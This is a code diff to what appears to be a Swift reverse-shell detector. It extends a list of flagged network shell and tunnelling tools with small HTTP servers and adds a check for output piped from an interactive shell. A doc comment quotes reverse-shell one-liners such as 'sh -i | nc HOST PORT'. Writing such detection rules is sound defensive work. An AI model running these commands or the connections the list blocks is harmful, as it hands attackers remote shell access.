@@ -15,7 +15,8 @@ enum ReverseShell: Family {
     "shellinaboxd", "wetty", "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat",
     "websocketd", "evil-winrm", "plink", "python", "openssl",
     "tailscale", "frpc", "wstunnel", "iodine", "dnscat", "dnscat2", "ligolo-agent", "rathole", "php",
-    "http-server",
+    "http-server", "serve", "live-server", "miniserve", "darkhttpd", "webfsd", "simple-http-server", "dufs",
+    "updog",
     "rclone", "kickstart", "msfvenom", "ruby", "twistd", "caddy", "smbserver.py", "impacket-smbserver",
   ]
   static let rules = [shell, tunnel]
@@ -173,6 +174,18 @@ enum ReverseShell: Family {
     {
       // `while read line; do $line; done <&5`
       report(invocation, &context)
+    }
+  }
+
+  /// `sh -i | nc HOST PORT`, `curl -T . telnet://HOST < <(bash -i)`: what somebody's terminal would show goes there.
+  static func comesFromShell(_ input: Value) -> Bool {
+    input.holes.contains { hole in
+      guard hole.kind == .output, let (program, rest) = hole.name.split(at: UInt8(ascii: " ")) else {
+        return false
+      }
+      let option = rest.prefix { $0 != " " }
+      return option.utf8.first == UInt8(ascii: "-") && option.utf8.dropFirst().contains(UInt8(ascii: "i"))
+        && !option.hasPrefix("--") && isShell(program)
     }
   }
 
